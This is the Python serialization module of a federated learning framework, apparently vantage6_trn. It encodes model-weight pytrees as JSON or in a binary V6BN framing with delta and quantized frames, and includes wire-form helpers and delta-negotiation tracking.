    decrypting byte stream can route a specific ndarray frame straight
    into device accumulates without materializing the payload.

    Returns ``None`` when ``buf`` is too short to contain the full
    header (feed more bytes and retry). Raises ``ValueError`` for
    payloads the streaming path cannot index — wrong magic, unsupported
    version, or zlib-compressed bodies (frame offsets are only knowable
    post-inflate) — the caller falls back to the one-shot decode.

    Each returned frame dict is the header entry plus ``"start"`` /
    ``"end"``: absolute offsets of the frame's bytes in the whole blob.
    """
    buf = memoryview(buf)
    if len(buf) >= 4 and bytes(buf[:4]) != BIN_MAGIC:
        raise ValueError("not a V6BN payload (bad magic)")
    if len(buf) < 10:
        return None
    version, flags = buf[4], buf[5]
    if version != BIN_VERSION:
        raise ValueError(f"unsupported V6BN version {version}")
    if flags & _FLAG_ZLIB:
        raise ValueError("cannot index a compressed V6BN payload")
    (header_len,) = struct.unpack(">I", buf[6:10])
    if len(buf) < 10 + header_len:
        return None
    try:
        header = json.loads(bytes(buf[10:10 + header_len]).decode("utf-8"))
        frames = list(header["frames"])
        tree = header["tree"]
    except (UnicodeDecodeError, json.JSONDecodeError, KeyError,
            TypeError) as e:
        raise ValueError("malformed V6BN header") from e
    out = []
    offset = 10 + header_len
    for frame in frames:
        f = dict(frame)
        f["start"] = offset
        offset += int(f["len"])
        f["end"] = offset
        out.append(f)
    return tree, out


# --- wire-form helpers (the only sanctioned payload base64 sites) ---------
#
# Canonical server storage is the raw blob (BLOB columns, db schema v10):
#   encrypted run   → ASCII bytes of the "b64(key)$b64(iv)$b64(ct)" envelope
#   unencrypted run → the payload bytes themselves
# Wire form depends on the negotiated transport codec:
#   encrypted       → the envelope *string* in both codecs (crypto framing
#                     is unchanged; it is already compact ciphertext)
#   unencrypted     → raw bytes leaf in a binary body / base64 string in JSON
# The receiver rule is therefore purely type-directed: a bytes leaf IS the
# payload; a str leaf goes through cryptor.decrypt_str_to_bytes (which is a
# plain base64 decode for DummyCryptor).

def payload_to_blob(value: bytes | str | None, encrypted: bool) -> bytes | None:
    """Wire-form run input/result → canonical stored blob."""
    if value is None:
        return None
    if isinstance(value, (bytes, bytearray, memoryview)):
        return bytes(value)
    if encrypted:
        return value.encode("ascii")
    return base64.b64decode(value)


def blob_to_wire(blob: bytes | str | None, encrypted: bool,
                 binary: bool = False) -> bytes | str | None:
    """Canonical stored blob → wire form for the negotiated codec."""
    if blob is None:
        return None
    if isinstance(blob, str):      # pre-migration rows / already wire form
        blob = payload_to_blob(blob, encrypted)
    if encrypted:
        return bytes(blob).decode("ascii")
    if binary:
        return bytes(blob)
    return base64.b64encode(blob).decode("ascii")


def open_wire(value: bytes | str | None, cryptor) -> bytes | None:
    """Wire-form input/result leaf → payload bytes. ``cryptor`` is any
    ``CryptorBase``; it is only consulted for legacy string leaves."""
    if value is None:
        return None
    if isinstance(value, (bytes, bytearray, memoryview)):
        return bytes(value)
    return cryptor.decrypt_str_to_bytes(value)


def make_task_input(method: str, args: list | None = None,
                    kwargs: dict | None = None) -> dict:
    """The wrapper-dispatch input dict (reference §3.5 contract)."""
    return {"method": method, "args": args or [], "kwargs": kwargs or {}}
