"""Task/result payload serialization.

The algorithm-facing contract (reference: v4 JSON-only wrapper input —
``vantage6-algorithm-tools/.../wrap.py``, SURVEY.md §2.1/§3.5, UNVERIFIED):

    input payload  = JSON {"method": str, "args": [...], "kwargs": {...}}
    result payload = JSON (whatever the algorithm returned)

Model weights travel *inside* those JSON payloads. The reference ecosystem
ships numpy weights as nested lists or base64 blobs; we standardise on a
tagged dict so arrays round-trip loss-lessly and cheaply:

    {"__ndarray__": "<b64 raw bytes>", "dtype": "float32", "shape": [..]}

``serialize``/``deserialize`` recursively (de)tag numpy arrays (and jax
arrays, which are converted via ``np.asarray``) so algorithm code can
return plain pytrees of arrays.

Binary codec (v2 data plane, docs/WIRE_FORMAT.md §1b)
-----------------------------------------------------
JSON-with-base64 inflates every array by ~33% and forces a full
encode/decode copy per hop. ``encode_binary``/``decode_binary`` provide
a zero-base64 alternative: a small JSON *header* describes the pytree
with array/bytes leaves replaced by frame placeholders, followed by the
raw little-copy frame bytes::

    b"V6BN" | version u8 | flags u8 | header_len u32be | header | frames

    header = {"tree": <pytree with {"__frame__": i} leaves>,
              "frames": [{"kind": "ndarray", "dtype": "<f4",
                          "shape": [..], "len": n} |
                         {"kind": "bytes", "len": n}, ...]}

flags bit0 = zlib over everything after the 6-byte magic/version/flags
prefix (header_len included). dtype is
``arr.dtype.str`` so endianness round-trips exactly. ``deserialize``
sniffs the magic, so every receiver handles both formats; transports
negotiate via ``Content-Type``/``Accept:`` |BIN_CONTENT_TYPE|.

Delta / quantized frames (v3 data plane, docs/WIRE_FORMAT.md §1c)
-----------------------------------------------------------------
Per-round federated payloads re-ship mostly-identical trees (a frozen
LoRA base, slowly-moving global weights). Two per-frame extensions cut
those bytes, both negotiated and both falling back to dense frames:

* **delta** (flag bit1, lossless): the frame stores
  ``zlib(shuffle?(raw XOR base))`` against a *referenced* prior tree —
  ``"delta": {"ref": <digest>, "path": <tree path>, "enc": [...]}`` plus
  ``"nbytes"`` (the dense length; ``"len"`` is the stored length).
  Decoders resolve ``ref`` via the process-local base registry
  (:func:`remember_base`); an unknown ref is a loud ``ValueError``,
  never silent garbage. XOR keeps the path bit-exact and streamable
  (``enc`` without ``"shuffle"`` inflates+XORs chunk by chunk — see
  ``ops.aggregate.ModularSumStream``).
* **quant** (flag bit2, lossy opt-in): ``"quant": {"scheme": "int8",
  "scale": s, "max_err": e}`` (per-tensor symmetric scale) or
  ``{"scheme": "bf16"}`` (top half of each f32). ``dtype`` stays the
  ORIGINAL dtype; decode always restores it.

Unknown flag bits raise ``ValueError`` at decode — a newer peer must be
renegotiated, not mis-parsed. Encoders only emit delta frames against a
digest the receiver has acknowledged (see :class:`DeltaTracker`), so
old decoders never see these frames on a negotiated path.
"""

from __future__ import annotations

import base64
import hashlib
import json
import struct
import threading
import zlib
from collections import OrderedDict
from typing import Any

import numpy as np

from vantage6_trn.common import telemetry

_NDKEY = "__ndarray__"

BIN_MAGIC = b"V6BN"
BIN_VERSION = 1
BIN_CONTENT_TYPE = "application/x-v6-bin"
_FLAG_ZLIB = 0x01
_FLAG_DELTA = 0x02
_FLAG_QUANT = 0x04
_KNOWN_FLAGS = _FLAG_ZLIB | _FLAG_DELTA | _FLAG_QUANT
# public aliases for peers that negotiate on a payload's flag byte
# (node daemon gates uplink delta on the downlink carrying FLAG_DELTA)
FLAG_ZLIB, FLAG_DELTA, FLAG_QUANT = _FLAG_ZLIB, _FLAG_DELTA, _FLAG_QUANT
_FRAMEKEY = "__frame__"


def _encode(obj: Any) -> Any:
    # jax.Array and np.ndarray both satisfy __array__; normalize to numpy.
    if hasattr(obj, "__array__") and not np.isscalar(obj):
        arr = np.ascontiguousarray(np.asarray(obj))
        return {
            _NDKEY: base64.b64encode(arr.tobytes()).decode("ascii"),
            "dtype": str(arr.dtype),
            "shape": list(arr.shape),
        }
    if isinstance(obj, dict):
        return {k: _encode(v) for k, v in obj.items()}
    if isinstance(obj, (list, tuple)):
        return [_encode(v) for v in obj]
    if isinstance(obj, (np.integer,)):
        return int(obj)
    if isinstance(obj, (np.floating,)):
        return float(obj)
    if isinstance(obj, (np.bool_,)):
        return bool(obj)
    return obj


def _decode(obj: Any) -> Any:
    if isinstance(obj, dict):
        if _NDKEY in obj and "dtype" in obj and "shape" in obj:
            raw = base64.b64decode(obj[_NDKEY])
            return np.frombuffer(raw, dtype=np.dtype(obj["dtype"])).reshape(
                obj["shape"]
            ).copy()
        return {k: _decode(v) for k, v in obj.items()}
    if isinstance(obj, list):
        return [_decode(v) for v in obj]
    return obj


def serialize(data: Any) -> bytes:
    """Pytree (incl. numpy/jax arrays) → canonical JSON bytes."""
    return json.dumps(_encode(data), separators=(",", ":")).encode("utf-8")


def serialize_as(fmt: str, data: Any, **bin_kwargs) -> bytes:
    """Serialize ``data`` in the requested payload codec: ``"json"``
    (legacy, always interoperable) or ``"bin"`` (V6BN framing).
    Binary-only options (``delta_base``, ``quantize``, ...) pass through
    to :func:`encode_binary`; the JSON codec ignores them — a JSON peer
    always receives the dense interoperable form."""
    if fmt == "bin":
        return encode_binary(data, **bin_kwargs)
    if fmt == "json":
        return serialize(data)
    raise ValueError(f"unknown payload format: {fmt!r}")


def payload_format(blob: bytes | str) -> str:
    """``"bin"`` when ``blob`` carries the V6BN magic, else ``"json"``.
    Used by the node to echo the task submitter's codec in its result."""
    if isinstance(blob, str):
        return "json"
    return "bin" if bytes(blob[:4]) == BIN_MAGIC else "json"


def deserialize(blob: bytes | str) -> Any:
    """Payload bytes → pytree with numpy arrays restored. Sniffs the
    V6BN magic so one entry point reads both codecs."""
    if isinstance(blob, (bytes, bytearray)):
        if bytes(blob[:4]) == BIN_MAGIC:
            return decode_binary(blob)
        blob = blob.decode("utf-8")
    return _decode(json.loads(blob))


# --- prior-tree base registry (delta encoding) ----------------------------
#
# Delta frames reference a *digest* of a previously-seen tree, not inline
# bytes: sender and receiver each hold the base (the receiver decoded it
# last round; the sender built it), so only the XOR residue crosses the
# wire. The registry is process-local and bounded — losing an entry only
# costs one dense re-send, never correctness (decode of an unknown ref
# raises and the sender's negotiation falls back to dense).

_BASE_LRU = 8
_base_lock = threading.Lock()
_base_registry: "OrderedDict[str, dict[str, np.ndarray]]" = OrderedDict()


def _walk_digest(obj: Any, h, leaves: dict[str, np.ndarray] | None,
                 path: str) -> None:
    """Canonical content walk shared by digest and leaf collection.

    Normalizes exactly like the codecs do (tuple→list, numpy scalars →
    python scalars), so a tree digested before ``encode_binary`` equals
    the digest of its decoded round trip — the property the cross-
    process delta negotiation rests on."""
    if isinstance(obj, dict):
        h.update(b"{")
        for k in sorted(obj):
            h.update(str(k).encode("utf-8", "surrogatepass"))
            h.update(b"=")
            _walk_digest(obj[k], h, leaves, f"{path}/{k}" if path else str(k))
        h.update(b"}")
        return
    if isinstance(obj, (list, tuple)):
        h.update(b"[")
        for i, v in enumerate(obj):
            _walk_digest(v, h, leaves, f"{path}/{i}" if path else str(i))
        h.update(b"]")
        return
    if isinstance(obj, (bytes, bytearray, memoryview)):
        h.update(b"B")
        h.update(bytes(obj))
        return
    if hasattr(obj, "__array__") and not np.isscalar(obj):
        arr = np.ascontiguousarray(np.asarray(obj))
        h.update(b"A")
        h.update(arr.dtype.str.encode())
        h.update(str(arr.shape).encode())
        h.update(arr.tobytes())
        if leaves is not None:
            leaves[path] = arr
        return
    if isinstance(obj, np.integer):
        obj = int(obj)
    elif isinstance(obj, np.floating):
        obj = float(obj)
    elif isinstance(obj, np.bool_):
        obj = bool(obj)
    h.update(json.dumps(obj, separators=(",", ":")).encode("utf-8"))


def tree_digest(tree: Any) -> str:
    """Canonical blake2b-128 content digest of a payload pytree."""
    h = hashlib.blake2b(digest_size=16)
    _walk_digest(tree, h, None, "")
    return h.hexdigest()


def remember_base(tree: Any) -> str:
    """Register ``tree`` as a delta base; returns its digest.

    Senders call this on the tree they just shipped; receivers on the
    tree they just decoded (the node daemon does it for every V6BN
    input). Bounded LRU: concurrent rounds keep their bases, stale ones
    age out and cost one dense re-send."""
    h = hashlib.blake2b(digest_size=16)
    leaves: dict[str, np.ndarray] = {}
    _walk_digest(tree, h, leaves, "")
    digest = h.hexdigest()
    with _base_lock:
        _base_registry[digest] = leaves
        _base_registry.move_to_end(digest)
        while len(_base_registry) > _BASE_LRU:
            _base_registry.popitem(last=False)
    return digest


def get_delta_base(frame: dict) -> np.ndarray:
    """Resolve a delta frame's referenced base leaf, or raise a clear
    ``ValueError`` (the sender must fall back to dense)."""
    d = frame.get("delta") or {}
    ref, path = d.get("ref"), d.get("path")
    with _base_lock:
        leaves = _base_registry.get(ref)
        base = None if leaves is None else leaves.get(path)
        if base is not None:
            _base_registry.move_to_end(ref)
    if base is None:
        raise ValueError(
            f"V6BN delta frame references unregistered base "
            f"{ref!r} at {path!r}; request a dense re-send"
        )
    if (base.dtype.str != frame.get("dtype")
            or list(base.shape) != list(frame.get("shape", []))):
        raise ValueError(
            f"V6BN delta base mismatch at {path!r}: frame "
            f"{frame.get('dtype')}{frame.get('shape')} vs base "
            f"{base.dtype.str}{list(base.shape)}"
        )
    return base


def forget_bases() -> None:
    """Drop every registered base (tests / memory pressure)."""
    with _base_lock:
        _base_registry.clear()


# --- binary codec ---------------------------------------------------------

def _shuffle_bytes(raw: bytes, itemsize: int) -> bytes:
    """Blosc-style byte transposition: group byte position i of every
    element together. XOR residues of slowly-moving floats have near-
    constant sign/exponent bytes — transposed, those become long zero
    runs zlib collapses. Pure permutation, exactly invertible."""
    a = np.frombuffer(raw, np.uint8)
    return a.reshape(-1, itemsize).T.tobytes()


def _unshuffle_bytes(raw: bytes, itemsize: int) -> bytes:
    a = np.frombuffer(raw, np.uint8)
    return a.reshape(itemsize, -1).T.tobytes()


def _delta_frame(frame: dict, raw: bytes, base: np.ndarray,
                 digest: str, path: str, shuffle: bool) -> bytes | None:
    """Try XOR-delta encoding ``raw`` against ``base``; returns the
    stored bytes (and mutates ``frame``) when it actually saves, else
    None (keep the dense frame)."""
    xor = np.bitwise_xor(
        np.frombuffer(raw, np.uint8),
        np.frombuffer(base.tobytes(), np.uint8),
    ).tobytes()
    enc = ["zlib"]
    itemsize = max(1, np.dtype(frame["dtype"]).itemsize)
    if shuffle and itemsize > 1 and len(xor) % itemsize == 0:
        xor = _shuffle_bytes(xor, itemsize)
        enc.insert(0, "shuffle")
    stored = zlib.compress(xor, 6)
    if len(stored) >= len(raw):
        return None
    frame["delta"] = {"ref": digest, "path": path, "enc": enc}
    frame["nbytes"] = len(raw)
    frame["len"] = len(stored)
    return stored


def _quant_frame(frame: dict, arr: np.ndarray, scheme: str) -> bytes | None:
    """Quantize a float frame per ``scheme``; returns stored bytes (and
    mutates ``frame``) or None when the dtype is not eligible."""
    if frame["dtype"] not in ("<f4", "<f8") or arr.size == 0:
        return None
    x = np.ascontiguousarray(arr)
    if scheme == "int8":
        amax = float(np.max(np.abs(x))) if x.size else 0.0
        scale = (amax / 127.0) or 1.0
        q = np.clip(np.rint(x / scale), -127, 127).astype(np.int8)
        frame["quant"] = {"scheme": "int8", "scale": scale,
                          "max_err": scale / 2.0}
        frame["len"] = int(q.nbytes)
        return q.tobytes()
    if scheme == "bf16":
        bits = np.ascontiguousarray(x.astype("<f4")).view("<u4")
        # round-to-nearest-even into the top 16 bits
        rounded = ((bits + 0x7FFF + ((bits >> 16) & 1)) >> 16).astype("<u2")
        frame["quant"] = {"scheme": "bf16"}
        frame["len"] = int(rounded.nbytes)
        return rounded.tobytes()
    raise ValueError(f"unknown quantization scheme {scheme!r}")


def _encode_bin(obj: Any, frames: list[dict], chunks: list[bytes],
                path: str = "", ctx: dict | None = None) -> Any:
    if isinstance(obj, (bytes, bytearray, memoryview)):
        raw = bytes(obj)
        frames.append({"kind": "bytes", "len": len(raw)})
        chunks.append(raw)
        return {_FRAMEKEY: len(frames) - 1}
    if hasattr(obj, "__array__") and not np.isscalar(obj):
        arr = np.asarray(obj)
        shape = list(arr.shape)    # before ascontiguousarray: it lifts 0-d to (1,)
        raw = np.ascontiguousarray(arr).tobytes()
        frame = {
            "kind": "ndarray",
            "dtype": arr.dtype.str,   # '<f4' / '>f4' — endianness-exact
            "shape": shape,
            "len": len(raw),
        }
        stored = None
        if ctx is not None:
            base = ctx["leaves"].get(path)
            if (base is not None and base.dtype.str == frame["dtype"]
                    and list(base.shape) == shape):
                stored = _delta_frame(frame, raw, base, ctx["digest"],
                                      path, ctx["shuffle"])
                if stored is not None:
                    ctx["delta"] = True
                    _DELTA_FRAMES.inc(op="encode")
            if stored is None and ctx.get("quantize"):
                stored = _quant_frame(frame, arr, ctx["quantize"])
                if stored is not None:
                    ctx["quant"] = True
        frames.append(frame)
        chunks.append(raw if stored is None else stored)
        return {_FRAMEKEY: len(frames) - 1}
    if isinstance(obj, dict):
        return {
            k: _encode_bin(v, frames, chunks,
                           f"{path}/{k}" if path else str(k), ctx)
            for k, v in obj.items()
        }
    if isinstance(obj, (list, tuple)):
        return [
            _encode_bin(v, frames, chunks,
                        f"{path}/{i}" if path else str(i), ctx)
            for i, v in enumerate(obj)
        ]
    if isinstance(obj, (np.integer,)):
        return int(obj)
    if isinstance(obj, (np.floating,)):
        return float(obj)
    if isinstance(obj, (np.bool_,)):
        return bool(obj)
    return obj


_DELTA_FRAMES = telemetry.REGISTRY.counter(
    "v6_delta_frames_total",
    "V6BN delta frames encoded/decoded (op label)")


def encode_binary(data: Any, compress: bool = False,
                  delta_base: Any | None = None,
                  quantize: str | None = None,
                  delta_shuffle: bool = True) -> bytes:
    """Pytree → V6BN bytes (see module docstring for the framing).

    ``delta_base`` (a prior pytree) enables lossless per-frame XOR-delta
    encoding: array leaves whose path/dtype/shape match a leaf of the
    base ship only their compressed residue. The base is registered
    (:func:`remember_base`) so a local decode round-trips; a REMOTE
    decoder must have registered the same tree — only pass bases the
    receiver acknowledged (:class:`DeltaTracker`). ``delta_shuffle=False``
    skips the byte-transposition so the frame stays consumable as an
    incremental stream (``ModularSumStream``). ``quantize`` ("int8" or
    "bf16") is the lossy opt-in for float frames that did not delta-
    encode; the declared error bound travels in the frame descriptor.
    """
    frames: list[dict] = []
    chunks: list[bytes] = []
    ctx = None
    if delta_base is not None or quantize is not None:
        digest = remember_base(delta_base) if delta_base is not None else ""
        with _base_lock:
            leaves = dict(_base_registry.get(digest, {}))
        ctx = {"digest": digest, "leaves": leaves, "quantize": quantize,
               "shuffle": delta_shuffle, "delta": False, "quant": False}
    tree = _encode_bin(data, frames, chunks, "", ctx)
    header = json.dumps({"tree": tree, "frames": frames},
                        separators=(",", ":")).encode("utf-8")
    body = b"".join([struct.pack(">I", len(header)), header, *chunks])
    flags = 0
    if ctx is not None:
        if ctx["delta"]:
            flags |= _FLAG_DELTA
        if ctx["quant"]:
            flags |= _FLAG_QUANT
    if compress:
        body = zlib.compress(body)
        flags |= _FLAG_ZLIB
    return b"".join([BIN_MAGIC, bytes([BIN_VERSION, flags]), body])


class FrameSpec:
    """Shape/dtype stand-in for an ndarray leaf whose bytes do not
    exist yet (layer-streamed uploads): :func:`encode_binary_prefix`
    lays the V6BN blob out around it without materializing the array."""

    __slots__ = ("dtype", "shape")

    def __init__(self, dtype, shape):
        self.dtype = np.dtype(dtype)
        self.shape = tuple(int(s) for s in shape)

    @property
    def nbytes(self) -> int:
        n = self.dtype.itemsize
        for s in self.shape:
            n *= s
        return n


def encode_binary_prefix(data: Any) -> tuple[bytes, list[dict]]:
    """V6BN prefix (magic | version | flags=0 | header_len | header)
    plus the frame table for a pytree whose ndarray leaves are
    :class:`FrameSpec` stand-ins. Header-first framing means the whole
    blob layout is exact before any frame bytes exist — the enabler
    for streaming layer frames into an upload session as backprop
    produces them (``node.daemon._ResultLayerSink``).

    The prefix is byte-identical to :func:`encode_binary` of the same
    tree with the specs replaced by the described arrays (dense,
    uncompressed, no delta/quant), so the assembled blob decodes with
    the ordinary :func:`decode_binary`. Returned frame dicts carry
    absolute ``start``/``end`` offsets (the ``peek_binary_index``
    shape). Materialized array/bytes leaves are rejected — their bytes
    would silently go missing from the stream.
    """
    frames: list[dict] = []

    def walk(obj: Any) -> Any:
        if isinstance(obj, FrameSpec):
            frames.append({
                "kind": "ndarray", "dtype": obj.dtype.str,
                "shape": list(obj.shape), "len": int(obj.nbytes),
            })
            return {_FRAMEKEY: len(frames) - 1}
        if isinstance(obj, (bytes, bytearray, memoryview)) or (
                hasattr(obj, "__array__") and not np.isscalar(obj)):
            raise ValueError(
                "encode_binary_prefix lays out FrameSpec leaves only; "
                "materialized arrays/bytes must be streamed as frames "
                "or they would vanish from the blob"
            )
        if isinstance(obj, dict):
            return {k: walk(v) for k, v in obj.items()}
        if isinstance(obj, (list, tuple)):
            return [walk(v) for v in obj]
        if isinstance(obj, (np.integer,)):
            return int(obj)
        if isinstance(obj, (np.floating,)):
            return float(obj)
        if isinstance(obj, (np.bool_,)):
            return bool(obj)
        return obj

    tree = walk(data)
    header = json.dumps({"tree": tree, "frames": frames},
                        separators=(",", ":")).encode("utf-8")
    prefix = b"".join([BIN_MAGIC, bytes([BIN_VERSION, 0]),
                       struct.pack(">I", len(header)), header])
    out = []
    offset = len(prefix)
    for frame in frames:
        f = dict(frame)
        f["start"] = offset
        offset += int(f["len"])
        f["end"] = offset
        out.append(f)
    return prefix, out


def _decode_frame(frame: dict, raw: bytes) -> Any:
    """Stored frame bytes → logical leaf value (bytes or ndarray).

    Handles dense, delta (zlib-inflate, optional byte-unshuffle, XOR
    against the registered base) and quantized (int8 rescale / bf16
    widen) frames; the original dtype/shape always come back."""
    if frame["kind"] == "bytes":
        return raw
    if frame["kind"] != "ndarray":
        raise ValueError(f"unknown V6BN frame kind {frame['kind']!r}")
    dtype = np.dtype(frame["dtype"])
    if "delta" in frame:
        base = get_delta_base(frame)
        enc = list(frame["delta"].get("enc") or [])
        data = raw
        if "zlib" in enc:
            data = zlib.decompress(data)
        if "shuffle" in enc:
            data = _unshuffle_bytes(data, max(1, dtype.itemsize))
        if len(data) != int(frame.get("nbytes", len(data))):
            raise ValueError("V6BN delta frame length mismatch")
        dense = np.bitwise_xor(
            np.frombuffer(data, np.uint8),
            np.frombuffer(base.tobytes(), np.uint8),
        ).tobytes()
        _DELTA_FRAMES.inc(op="decode")
        return np.frombuffer(dense, dtype=dtype).reshape(
            frame["shape"]).copy()
    if "quant" in frame:
        q = frame["quant"]
        scheme = q.get("scheme")
        if scheme == "int8":
            vals = np.frombuffer(raw, np.int8).astype(dtype)
            vals = vals * dtype.type(q["scale"])
            return vals.reshape(frame["shape"]).copy()
        if scheme == "bf16":
            bits = np.frombuffer(raw, "<u2").astype("<u4") << np.uint32(16)
            return bits.view("<f4").astype(dtype).reshape(
                frame["shape"]).copy()
        raise ValueError(f"unknown V6BN quant scheme {scheme!r}")
    return np.frombuffer(raw, dtype=dtype).reshape(frame["shape"]).copy()


def _check_flags(flags: int) -> None:
    unknown = flags & ~_KNOWN_FLAGS
    if unknown:
        raise ValueError(
            f"unknown V6BN flag bits 0x{unknown:02x}: payload was built "
            "by a newer peer; renegotiate instead of mis-parsing"
        )


def binary_flags(blob: bytes | str | None) -> int:
    """Flag byte of a V6BN blob; 0 for JSON / short / string payloads."""
    if not isinstance(blob, (bytes, bytearray, memoryview)):
        return 0
    head = bytes(blob[:6])
    if len(head) < 6 or head[:4] != BIN_MAGIC:
        return 0
    return head[5]


def decode_binary(blob: bytes | bytearray | memoryview) -> Any:
    """V6BN bytes → pytree. Raises ``ValueError`` on malformed input."""
    blob = bytes(blob)
    if blob[:4] != BIN_MAGIC:
        raise ValueError("not a V6BN payload (bad magic)")
    if len(blob) < 10:
        raise ValueError("truncated V6BN payload")
    version, flags = blob[4], blob[5]
    if version != BIN_VERSION:
        raise ValueError(f"unsupported V6BN version {version}")
    _check_flags(flags)
    body = blob[6:]
    if flags & _FLAG_ZLIB:
        body = zlib.decompress(body)
    (header_len,) = struct.unpack(">I", body[:4])
    try:
        header = json.loads(body[4:4 + header_len].decode("utf-8"))
    except (UnicodeDecodeError, json.JSONDecodeError) as e:
        raise ValueError("malformed V6BN header") from e
    offset = 4 + header_len
    leaves = []
    for frame in header["frames"]:
        raw = body[offset:offset + frame["len"]]
        if len(raw) != frame["len"]:
            raise ValueError("truncated V6BN frame")
        offset += frame["len"]
        leaves.append(_decode_frame(frame, raw))

    def _restore(obj: Any) -> Any:
        if isinstance(obj, dict):
            if _FRAMEKEY in obj and len(obj) == 1:
                return leaves[obj[_FRAMEKEY]]
            return {k: _restore(v) for k, v in obj.items()}
        if isinstance(obj, list):
            return [_restore(v) for v in obj]
        return obj

    return _restore(header["tree"])


def peek_binary_index(buf: bytes | bytearray | memoryview):
    """Parse a V6BN *prefix* into ``(tree, frames)`` without touching the
    frame bytes. Enabler for fused open+aggregate streaming
    (``ops.aggregate.ModularSumStream.add_wire``): once the header has
    arrived, each frame's absolute byte range in the blob is known, so a
    decrypting byte stream can route a specific ndarray frame straight
    into device accumulates without materializing the payload.

    Returns ``None`` when ``buf`` is too short to contain the full
    header (feed more bytes and retry). Raises ``ValueError`` for
    payloads the streaming path cannot index — wrong magic, unsupported
    version, or zlib-compressed bodies (frame offsets are only knowable
    post-inflate) — the caller falls back to the one-shot decode.

    Each returned frame dict is the header entry plus ``"start"`` /
    ``"end"``: absolute offsets of the frame's bytes in the whole blob.
    """
    buf = memoryview(buf)
    if len(buf) >= 4 and bytes(buf[:4]) != BIN_MAGIC:
        raise ValueError("not a V6BN payload (bad magic)")
    if len(buf) < 10:
        return None
    version, flags = buf[4], buf[5]
    if version != BIN_VERSION:
        raise ValueError(f"unsupported V6BN version {version}")
    _check_flags(flags)
    if flags & _FLAG_ZLIB:
        raise ValueError("cannot index a compressed V6BN payload")
    (header_len,) = struct.unpack(">I", buf[6:10])
    if len(buf) < 10 + header_len:
        return None
    try:
        header = json.loads(bytes(buf[10:10 + header_len]).decode("utf-8"))
        frames = list(header["frames"])
        tree = header["tree"]
    except (UnicodeDecodeError, json.JSONDecodeError, KeyError,
            TypeError) as e:
        raise ValueError("malformed V6BN header") from e
    out = []
    offset = 10 + header_len
    for frame in frames:
        f = dict(frame)
        f["start"] = offset
        offset += int(f["len"])
        f["end"] = offset
        out.append(f)
    return tree, out


# --- wire-form helpers (the only sanctioned payload base64 sites) ---------
#
# Canonical server storage is the raw blob (BLOB columns, db schema v10):
#   encrypted run   → ASCII bytes of the "b64(key)$b64(iv)$b64(ct)" envelope
#   unencrypted run → the payload bytes themselves
# Wire form depends on the negotiated transport codec:
#   encrypted       → the envelope *string* in both codecs (crypto framing
#                     is unchanged; it is already compact ciphertext)
#   unencrypted     → raw bytes leaf in a binary body / base64 string in JSON
# The receiver rule is therefore purely type-directed: a bytes leaf IS the
# payload; a str leaf goes through cryptor.decrypt_str_to_bytes (which is a
# plain base64 decode for DummyCryptor).

def payload_to_blob(value: bytes | str | None, encrypted: bool) -> bytes | None:
    """Wire-form run input/result → canonical stored blob."""
    if value is None:
        return None
    if isinstance(value, (bytes, bytearray, memoryview)):
        return bytes(value)
    if encrypted:
        return value.encode("ascii")
    return base64.b64decode(value)


def blob_to_wire(blob: bytes | str | None, encrypted: bool,
                 binary: bool = False) -> bytes | str | None:
    """Canonical stored blob → wire form for the negotiated codec."""
    if blob is None:
        return None
    if isinstance(blob, str):      # pre-migration rows / already wire form
        blob = payload_to_blob(blob, encrypted)
    if encrypted:
        return bytes(blob).decode("ascii")
    if binary:
        return bytes(blob)
    return base64.b64encode(blob).decode("ascii")


def open_wire(value: bytes | str | None, cryptor) -> bytes | None:
    """Wire-form input/result leaf → payload bytes. ``cryptor`` is any
    ``CryptorBase``; it is only consulted for legacy string leaves."""
    if value is None:
        return None
    if isinstance(value, (bytes, bytearray, memoryview)):
        return bytes(value)
    return cryptor.decrypt_str_to_bytes(value)


def make_task_input(method: str, args: list | None = None,
                    kwargs: dict | None = None) -> dict:
    """The wrapper-dispatch input dict (reference §3.5 contract)."""
    return {"method": method, "args": args or [], "kwargs": kwargs or {}}


# --- delta negotiation ----------------------------------------------------

ACK_KEY = "__v6_input_digest__"

#: a worker result dict may carry this key with a base TREE (same paths
#: as the result's own weight leaves, e.g. ``{"weights": <input
#: weights>}``): the node daemon pops it and — when the downlink input
#: itself carried :data:`FLAG_DELTA`, proving the submitter decodes
#: deltas — uplink-encodes the result against it. Never reaches the
#: wire or algorithm consumers.
DELTA_HINT_KEY = "__v6_delta_base__"


class DeltaTracker:
    """Driver-side negotiation state for delta-encoded round inputs.

    The node daemon registers every decoded V6BN input tree as a delta
    base and echoes its digest back under :data:`ACK_KEY` inside dict
    results. A driver round loop does::

        tracker = DeltaTracker()
        for round in ...:
            input_ = make_task_input(...)
            task = client.task.create(
                input_=input_, delta_base=tracker.base(orgs), ...)
            tracker.sent(input_, orgs)
            for item in client.iter_results(task["id"]):
                tracker.ack(item["organization_id"], item["result"])

    Delta frames only go out once EVERY participating org acknowledged
    the previous round's digest, so a restarted or replaced node (whose
    base registry is empty) degrades the next round to dense frames —
    never to an undecodable payload. JSON-only peers never ack and so
    never receive delta frames at all.

    Quorum/async round policies break the total round order the original
    protocol assumed: an org skipped by a quorum close (or lagging
    rounds behind under async) may still ack an OLD digest while the
    driver is already two inputs ahead. Two guards keep that safe:
    acks only credit when their digest matches the CURRENT round's
    input (stale acks are ignored), and ``base(orgs)`` only returns a
    base when every requested org was a *participant* of the send that
    registered it (``sent(tree, orgs)``) — an org outside that cohort
    never received the base, so the round degrades to dense.
    """

    def __init__(self) -> None:
        self._tree: Any = None
        self._digest: str | None = None
        self._acked: set = set()
        self._participants: set | None = None

    def base(self, orgs) -> Any:
        """The previously sent tree iff every org in ``orgs`` both
        participated in that send and acked its digest (and ``orgs`` is
        non-empty); else None → send dense."""
        if self._tree is None:
            return None
        need = {o for o in orgs}
        if not need or not (need <= self._acked):
            return None
        if self._participants is not None \
                and not (need <= self._participants):
            return None
        return self._tree

    def sent(self, tree: Any, orgs=None) -> str:
        """Record the tree just shipped to ``orgs`` (None = unrestricted,
        the legacy total-order protocol); registers it as a base and
        resets the ack set for the new round."""
        self._tree = tree
        self._digest = remember_base(tree)
        self._acked = set()
        self._participants = None if orgs is None else {o for o in orgs}
        return self._digest

    def ack(self, org_id, result) -> None:
        """Consume an org's result: pops :data:`ACK_KEY` (so algorithm
        code never sees it) and credits the ack when the digest matches
        the current round's input."""
        if not isinstance(result, dict):
            return
        digest = result.pop(ACK_KEY, None)
        if digest is not None and digest == self._digest:
            self._acked.add(org_id)
