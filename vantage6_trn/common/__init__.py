"""L0 foundation: enums, serialization, encryption, JWT, config contexts.

